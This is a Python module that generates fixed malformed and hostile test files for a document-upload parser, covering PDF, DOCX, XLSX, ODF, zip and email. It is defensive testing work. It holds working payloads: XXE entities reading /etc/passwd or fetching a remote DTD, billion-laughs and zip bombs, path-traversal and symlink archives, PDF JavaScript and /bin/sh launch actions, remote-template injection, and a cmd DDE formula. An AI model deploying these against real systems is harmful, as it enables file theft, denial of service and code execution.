"""Our own completed documents -> broken and hostile files, the same at every run."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

Files = Iterator[tuple[str, bytes]]
"""Files by name; the beginning of a name, up to the first hyphen, is what is expected of the file.

`rejected`: one line, rejected, with one finding. `told`: not accepted, and nothing in the record that was not written.
`read`: like the untouched document. `active`: read, with the finding that it holds what would act.
"""
_DAY = (2026, 1, 1, 0, 0, 0)
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
NETWORK = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.7/x.dtd"> %p;]>'


def zipped(parts: Mapping[str, bytes | str] | list[tuple[str, bytes | str]], *, stored: bool = False) -> bytes:
    """A zip file of these entries, in this order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts if isinstance(parts, list) else parts.items():
            archive.writestr(zipfile.ZipInfo(name, _DAY), content, compress_type=archive.compression)
    return buffer.getvalue()


def parts_of(content: bytes) -> dict[str, bytes | str]:
    """The parts of an office file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """An office file with one part put in the place of another."""
    return zipped({**parts_of(content), name: part})


def files(pdf: bytes, docx: bytes, xlsx: bytes) -> Files:
    """Every file of the set."""
    for ending, content in (("pdf", pdf), ("docx", docx), ("xlsx", xlsx)):
        yield from _cut(ending, content)
    yield from _misnamed(pdf, docx, xlsx)
    yield from _other_kinds()
    yield from _open_documents()
    yield from _active(docx, xlsx)
    yield from _entities(docx, xlsx)
    yield from _shapes(docx, xlsx)
    yield from _bombs(pdf, docx, xlsx)
    yield from _archives(pdf, docx)
    yield from _mails(pdf)
    yield from _pdfs()


def _cut(ending: str, content: bytes) -> Files:
    for share in (0.01, 0.3, 0.6, 0.9, 0.99):
        kind = "told" if ending == "pdf" else "rejected"
        yield f"{kind}-cut-{share}.{ending}", content[: int(len(content) * share)]
    yield f"rejected-nuls.{ending}", bytes(len(content))
    yield f"rejected-head-lost.{ending}", content[2000:]


def _misnamed(pdf: bytes, docx: bytes, xlsx: bytes) -> Files:
    yield "read-pdf-as.docx", pdf
    yield "read-docx-as.xlsx", docx
    yield "read-xlsx-as.pdf", xlsx
    yield "read-docx-as.zip", docx
    yield "read-pdf-as.eml", pdf
    yield "rejected-text-as.pdf", b"=cmd|'/c calc'!A1;@SUM(1+1)\n+1,-1\n"
    yield "rejected-empty.pdf", b""
    yield "rejected-one-byte.docx", b"P"


def _other_kinds() -> Files:
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for name, stream in (
        ("encrypted.docx", "EncryptedPackage"),
        ("word.doc", "WordDocument"),
        ("excel.xls", "Workbook"),
        ("slides.ppt", "PowerPoint Document"),
        ("mail.msg", "__substg1.0_0037001F"),
        ("compound.bin", "x"),
    ):
        yield f"rejected-{name}", compound + stream.encode("utf-16-le") + bytes(600)
    starts = {
        "rich.rtf": b"{\\rtf1 x}",
        "page.html": b"<!DOCTYPE html><p>x",
        "word.xml": b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><x/>',
        "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.7/x"/></svg>',
        "list.csv": "անուն;տարիք\n=1+1;2\n".encode(),
        "list-utf16.csv": "անուն;տարիք\n".encode("utf-16"),
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(50),
        "picture.jpg": b"\xff\xd8\xff\xe0" + bytes(50),
        "picture.gif": b"GIF89a" + bytes(50),
        "picture.tiff": b"II*\0" + bytes(50),
        "picture.bmp": b"BM\0\0\0\0\0\0\0\0" + bytes(50),
        "picture.webp": b"RIFF\0\0\0\0WEBP",
        "picture.heic": b"\0\0\0\x18ftypheic" + bytes(50),
        "picture.djvu": b"AT&TFORM" + bytes(50),
        "many.7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "many.rar": b"Rar!\x1a\x07\x01\0" + bytes(50),
        "many.tar": bytes(257) + b"ustar\0" + bytes(300),
        "many.gz": gzip.compress(b"x", mtime=0),
        "many.mbox": b"From a@b.am Thu\nFrom: a\nTo: b\n\nx\n\nFrom c@d.am Thu\nFrom: c\n\ny\n",
        "winmail.dat": b"\x78\x9f\x3e\x22" + bytes(50),
        "noise.bin": bytes(range(256)) * 20,
    }
    for name, content in starts.items():
        yield f"rejected-{name}", content
    types = '<Types xmlns="urn:x"><Override ContentType="{}"/></Types>'
    for name, said in (
        ("macros.docm", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ("macros.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("slides.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        ("binary.xlsb", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        ("fixed.xps", "application/vnd.ms-package.xps-fixeddocumentsequence+xml"),
    ):
        yield f"rejected-{name}", zipped({"[Content_Types].xml": types.format(said)})
    yield "rejected-book.epub", zipped({"mimetype": "application/epub+zip"})
    yield "rejected-slides.odp", zipped({"mimetype": "application/vnd.oasis.opendocument.presentation"})
    yield "rejected-apple.pages", zipped({"Index/Document.iwa": b"x"})
    yield "rejected-hollow.docx", zipped({"[Content_Types].xml": types.format("wordprocessingml.document.main+xml")})
    yield "rejected-hollow.xlsx", zipped({"[Content_Types].xml": types.format("spreadsheetml.sheet.main+xml")})
    for kind in ("text", "spreadsheet"):
        mimetype = f"application/vnd.oasis.opendocument.{kind}"
        laughs = f'<?xml version="1.0"?>{LAUGHS}<x>&j;</x>'
        yield f"rejected-hollow-{kind}.odf", zipped({"mimetype": mimetype})
        yield f"rejected-laughs-{kind}.odf", zipped({"mimetype": mimetype, "content.xml": laughs, "meta.xml": laughs})


def _open_documents() -> Files:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )

    def sheet(rows: str) -> bytes:
        body = f'<office:spreadsheet><table:table table:name="a">{rows}</table:table></office:spreadsheet>'
        return said("spreadsheet", body)

    def said(kind: str, body: str) -> bytes:
        content = f"<office:document-content {spaces}><office:body>{body}</office:body></office:document-content>"
        return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content})

    row = '<table:table-row table:number-rows-repeated="{}"><table:table-cell table:number-columns-repeated="{}">{}'
    row += "</table:table-cell></table:table-row>"
    text = "<text:p>x</text:p>"
    yield "rejected-repeated.ods", sheet(row.format(1048576, 16384, text))
    yield "rejected-repeated-beyond.ods", sheet(row.format(10**12, 10**12, "") * 100)
    yield "rejected-repeated-wrong.ods", sheet(row.format(-5, "x", text))
    yield (
        "rejected-spaces.odt",
        said("text", '<office:text><text:p>a<text:s text:c="2000000000"/></text:p></office:text>'),
    )
    yield "rejected-nothing.odt", said("text", "")


def _active(docx: bytes, xlsx: bytes) -> Files:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" '
        'TargetMode="External"/></Relationships>'
    )
    settings = "word/_rels/settings.xml.rels"
    remote = rels.format("attachedTemplate", "http://192.0.2.7/x.dotm")
    yield "active-template.docx", with_part(docx, settings, remote.encode())
    share = rels.format("attachedTemplate", "\\\\192.0.2.7\\x.dotm")
    yield "active-share.docx", with_part(docx, settings, share.encode())
    local = rels.format("attachedTemplate", "file:///C:/x/Normal.dotm")
    yield "read-local-template.docx", with_part(docx, settings, local.encode())
    link = rels.format("hyperlink", "http://192.0.2.7/x")
    yield "read-link.docx", with_part(docx, settings, link.encode())
    yield "active-macros.docx", with_part(docx, "word/vbaProject.bin", b"x")
    yield "active-program.xlsx", with_part(xlsx, "xl/embeddings/oleObject1.bin", b"x")
    yield "active-link.xlsx", with_part(xlsx, "xl/externalLinks/externalLink1.xml", b"<x><ddeLink/></x>")


def _entities(docx: bytes, xlsx: bytes) -> Files:
    places = (
        (docx, "docx", "word/document.xml"),
        (docx, "docx", "docProps/core.xml"),
        (docx, "docx", "docProps/custom.xml"),
        (xlsx, "xlsx", "xl/workbook.xml"),
        (xlsx, "xlsx", "xl/worksheets/sheet1.xml"),
        (xlsx, "xlsx", "xl/_rels/workbook.xml.rels"),
        (xlsx, "xlsx", "docProps/core.xml"),
    )
    for content, ending, part in places:
        text = parts_of(content)[part]
        assert isinstance(text, bytes)
        start = text.index(b"?>") + 2 if text.startswith(b"<?xml") else 0
        body, stem = text[start:], part.replace("/", "_")
        inside = body.replace(b"</", b"&j;</", 1)
        for name, head in (("laughs", LAUGHS), ("outside", OUTSIDE), ("network", NETWORK)):
            yield f"rejected-{name}-{stem}.{ending}", with_part(content, part, head.encode() + inside)
        far = " " * 5000 + OUTSIDE
        yield f"rejected-far-{stem}.{ending}", with_part(content, part, far.encode() + inside)
        wide = b"\xff\xfe" + (OUTSIDE + inside.decode()).encode("utf-16-le")
        yield f"rejected-utf16-{stem}.{ending}", with_part(content, part, wide)


def _shapes(docx: bytes, xlsx: bytes) -> Files:
    word = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    end = b"</w:body></w:document>"
    deep = word + b"<w:p>" * 1000 + b"</w:p>" * 1000 + end
    yield "rejected-deep.docx", with_part(docx, "word/document.xml", deep)
    wide = word + b"".join(b'<w:p a="%d"/>' % n for n in range(1_050_000)) + end
    yield "rejected-wide.docx", with_part(docx, "word/document.xml", wide)
    attributes = b"<w:p " + b" ".join(b'a%d=""' % n for n in range(1_050_000)) + b"/>"
    yield "rejected-attributes.docx", with_part(docx, "word/document.xml", word + attributes + end)
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    rows = b"".join(b'<row r="%d">' % n + b"<c/>" * 210 + b"</row>" for n in range(1, 1001))
    cells = sheet + rows + b"</sheetData></worksheet>"
    yield "rejected-cells.xlsx", with_part(xlsx, "xl/worksheets/sheet1.xml", cells)
    for content, ending, part in ((docx, "docx", "word/document.xml"), (xlsx, "xlsx", "xl/workbook.xml")):
        yield f"rejected-not-xml.{ending}", with_part(content, part, b"\0\xff<")
        yield f"rejected-no-part.{ending}", zipped({k: v for k, v in parts_of(content).items() if k != part})
        doubled = [*parts_of(content).items(), (part, b"<x/>")]
        yield f"rejected-part-twice.{ending}", _quietly_zipped(doubled)
        yield f"rejected-parts.{ending}", zipped({**parts_of(content), **{f"x/{n}": b"" for n in range(1500)}})
        yield f"rejected-locked.{ending}", _flagged(content)


def _quietly_zipped(entries: list[tuple[str, bytes | str]]) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return zipped(entries)


def _flagged(content: bytes) -> bytes:
    """A zip whose every entry claims to be encrypted."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + offset] |= 1
            place = changed.find(mark, place + 4)
    return bytes(changed)


def _lying(content: bytes, size: int) -> bytes:
    """A zip whose directory claims that every entry becomes `size` bytes."""
    changed = bytearray(content)
    place = changed.find(b"PK\1\2")
    while place >= 0:
        changed[place + 24 : place + 28] = struct.pack("<I", size)
        place = changed.find(b"PK\1\2", place + 4)
    return bytes(changed)


def _overlapping(count: int) -> bytes:
    """A zip of many entries that all are the same bytes."""
    content = zipped({"0.pdf": b"\0" * (4 << 20)})
    start = content.index(b"PK\1\2")
    end = content.index(b"PK\5\6")
    entry = bytearray(content[start:end])
    entry[28:30] = b"\5\0"
    directory = b"".join(bytes(entry[:46]) + b"%05d" % number for number in range(count))
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), start, 0)
    return content[:start] + directory + tail


def _bombs(pdf: bytes, docx: bytes, xlsx: bytes) -> Files:
    zeros = bytes(64 << 20)
    small = zlib.compress(zeros, 9)
    yield "rejected-bomb.docx", with_part(docx, "word/document.xml", zeros)
    yield "rejected-bomb.xlsx", with_part(xlsx, "xl/worksheets/sheet1.xml", zeros)
    yield "rejected-bomb-many.docx", zipped({**parts_of(docx), **{f"x/{n}": zeros[: 8 << 20] for n in range(12)}})
    lying = _lying(with_part(docx, "word/document.xml", zeros), 1000)
    yield "rejected-bomb-lying.docx", lying
    spaces = b"<?xml version='1.0'?><x>" + b" " * (28 << 20) + b"</x>"
    yield "rejected-bomb-spaces.docx", with_part(docx, "word/document.xml", spaces)
    yield "rejected-bomb-overlap.zip", _overlapping(4_000)
    yield "rejected-bomb-flat.zip", zipped({"a.pdf": zeros})
    inner = zipped({"a.pdf": b"x"})
    for _ in range(60):
        inner = zipped({"a.zip": inner}, stored=True)
    yield "rejected-bomb-levels.zip", inner
    yield "rejected-many-entries.zip", zipped({f"{n}.pdf": b"" for n in range(6000)}, stored=True)
    twice = zlib.compress(small, 9)
    yield (
        "rejected-bomb-stream.pdf",
        _pdf(
            b"<</Length %d/Filter[/FlateDecode/FlateDecode]/Type/XObject>>stream\n%s\nendstream" % (len(twice), twice)
        ),
    )
    yield (
        "rejected-bomb-xmp.pdf",
        _pdf(
            b"<</Type/Metadata/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(small), small),
            catalog=b"/Metadata 4 0 R",
        ),
    )
    yield (
        "rejected-bomb-page.pdf",
        _pdf(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(small), small), page=b"/Contents 4 0 R"),
    )
    operators = zlib.compress(b"q 1 0 0 1 0 0 cm " * 2_000_000, 9)
    yield (
        "rejected-bomb-operators.pdf",
        _pdf(
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(operators), operators),
            page=b"/Contents 4 0 R",
        ),
    )
    shown = zlib.compress(b"BT /F 1 Tf " + b"(xxxxxxxxxx) Tj " * 1_500_000 + b"ET", 9)
    yield (
        "rejected-bomb-text.pdf",
        _pdf(
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(shown), shown),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            page=b"/Contents 4 0 R",
        ),
    )


def _archives(pdf: bytes, docx: bytes) -> Files:
    yield "rejected-empty.zip", zipped({})
    yield "rejected-folders.zip", zipped({"a/": b"", "__MACOSX/._a": b"x", "a/.DS_Store": b"x", "a/~$b.docx": b"x"})
    yield "rejected-cut.zip", zipped({"a.pdf": pdf})[:-40]
    yield "rejected-locked.zip", _flagged(zipped({"a.pdf": pdf}))
    for name in ("../a.pdf", "../../../../etc/a.pdf", "/etc/a.pdf", "C:\\a.pdf", "..\\a.pdf"):
        safe = name.replace("/", "_").replace("\\", "_").replace(":", "_")
        yield f"rejected-climbs-{safe}.zip", zipped({name: pdf})
    yield "rejected-twice.zip", _quietly_zipped([("a.pdf", pdf), ("a.pdf", docx)])
    link = zipfile.ZipInfo("a.pdf", _DAY)
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "rejected-link.zip", buffer.getvalue()
    yield "read-backslash.zip", zipped({"folder\\a.pdf": pdf})
    yield "read-old-name.zip", _renamed(zipped({"xxxxx.pdf": pdf}), "Ответ".encode("cp866") + b".pdf")
    yield "read-direction.zip", zipped({"a\u202efdp.exe.pdf": pdf})
    yield "read-escapes.zip", zipped({"\x1b[31m\x07\n.pdf": pdf})
    yield "read-long-name.zip", zipped({"x" * 60_000 + ".pdf": pdf})


def _renamed(content: bytes, name: bytes) -> bytes:
    assert len(name) == len("xxxxx.pdf")
    return content.replace(b"xxxxx.pdf", name)


def mail(*parts: bytes) -> bytes:
    """A mail of these parts."""
    border = hashlib.md5(b"".join(parts), usedforsecurity=False).hexdigest().encode()
    body = b"".join(b"--" + border + b"\r\n" + part + b"\r\n" for part in parts)
    start = b"From: a@example.am\r\nTo: b@example.am\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    kind = b'Content-Type: multipart/mixed; boundary="' + border + b'"\r\n\r\n'
    return start + kind + body + b"--" + border + b"--\r\n"


def attached(name: bytes, content: bytes, *, kind: bytes = b"application/octet-stream", more: bytes = b"") -> bytes:
    """A part of a mail with a file."""
    import base64

    head = b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n" + more
    return head + b'Content-Disposition: attachment; filename="' + name + b'"\r\n\r\n' + base64.encodebytes(content)


def _mails(pdf: bytes) -> Files:
    text = b"Content-Type: text/plain; charset=x-none\r\n\r\nSee the form. My number is 099 999999.\r\n"
    yield "read-mail.eml", mail(text, attached(b"a.pdf", pdf))
    yield "read-mail-without-ending", mail(attached(b"=?utf-8?b?1aTVpS5wZGY=?=", pdf))
    logo = b"Content-ID: <x>\r\n"
    yield (
        "read-mail-logo.eml",
        mail(text, attached(b"l.png", b"\x89PNG", kind=b"image/png", more=logo), attached(b"a", pdf)),
    )
    yield "read-mail-climbs.eml", mail(attached(b"../../a.pdf", pdf))
    yield "read-mail-zip.eml", mail(attached(b"a.zip", zipped({"a.pdf": pdf})))
    inner = mail(attached(b"a.pdf", pdf))
    yield "read-mail-in-mail.eml", mail(b"Content-Type: message/rfc822\r\n\r\n" + inner)
    yield "rejected-mail-text.eml", mail(text)
    yield "rejected-mail-photo.eml", mail(text, attached(b"p.jpg", b"\xff\xd8\xff", kind=b"image/jpeg", more=logo))
    yield "rejected-mail-broken.eml", mail(attached(b"a.pdf", pdf)).replace(b"JVBER", b"\xff\0!!!")
    yield "rejected-mail-headers.eml", b"From: a\r\nTo: b\r\n" + b"X: y\r\n" * 50_000 + b"\r\n"
    yield "rejected-mail-no-end.eml", mail(attached(b"a.pdf", pdf))[:800]
    for _ in range(60):
        inner = mail(b"Content-Type: message/rfc822\r\n\r\n" + inner)
    yield "rejected-mail-levels.eml", inner
    yield "rejected-mail-parts.eml", mail(*[b"Content-Type: application/pdf\r\n\r\nx"] * 6000)
    nested = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(3000))
    yield "rejected-mail-multiparts.eml", b"From: a\r\nTo: b\r\n" + nested


def _pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"", pages: bytes | None = None) -> bytes:
    """A PDF of a catalog, one page and these objects, the first of which is number 4."""
    top = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>" + page + b">>",
        *objects,
    ]
    content, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(top, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(top) + 1
    tail = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return content + tail % (size, table, size, len(content))


def _pdfs() -> Files:
    yield "rejected-foreign.pdf", _pdf()
    yield "rejected-loop-kids.pdf", _pdf(pages=b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>")
    yield "rejected-loop-fields.pdf", _pdf(b"<</T(a)/Kids[4 0 R]>>", catalog=b"/AcroForm<</Fields[4 0 R]>>")
    yield "rejected-loop-length.pdf", _pdf(b"<</Length 4 0 R>>stream\nx\nendstream", page=b"/Contents 4 0 R")
    yield "rejected-loop-parent.pdf", _pdf(b"<</T(a)/Parent 4 0 R/FT/Tx>>", catalog=b"/AcroForm<</Fields[4 0 R]>>")
    yield "rejected-deep-arrays.pdf", _pdf(b"[" * 20_000 + b"]" * 20_000, catalog=b"/X 4 0 R")
    yield (
        "rejected-deep-fields.pdf",
        _pdf(*[b"<</T(a)/Kids[%d 0 R]>>" % (n + 5) for n in range(3000)], catalog=b"/AcroForm<</Fields[4 0 R]>>"),
    )
    fields = b"<</Fields[" + b"<</FT/Tx/T(a)/V(b)>>" * 100_000 + b"]>>"
    yield "rejected-fields.pdf", _pdf(fields, catalog=b"/AcroForm 4 0 R")
    yield "rejected-pages.pdf", _pdf(pages=b"<</Type/Pages/Count 3000/Kids[" + b"3 0 R " * 3000 + b"]>>")
    yield "rejected-count.pdf", _pdf(pages=b"<</Type/Pages/Count 99999999/Kids[3 0 R]>>")
    yield "rejected-script.pdf", _pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.7'\\))>>")
    yield "rejected-launch.pdf", _pdf(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>")
    yield "rejected-no-pages.pdf", _pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>")
    yield "rejected-wrong-types.pdf", _pdf(catalog=b"/AcroForm[1]/Metadata(x)/Names 7", pages=b"(pages)")
    yield "rejected-no-xref.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
    yield "rejected-prev-loop.pdf", _pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9")
    yield "rejected-size.pdf", _pdf().replace(b"/Size 4", b"/Size 999999999")
    annotations = b"/Annots[" + b"<</Subtype/FreeText/Contents(x)/Rect[0 0 1 1]>>" * 100_000 + b"]"
    yield "rejected-annotations.pdf", _pdf(page=annotations)
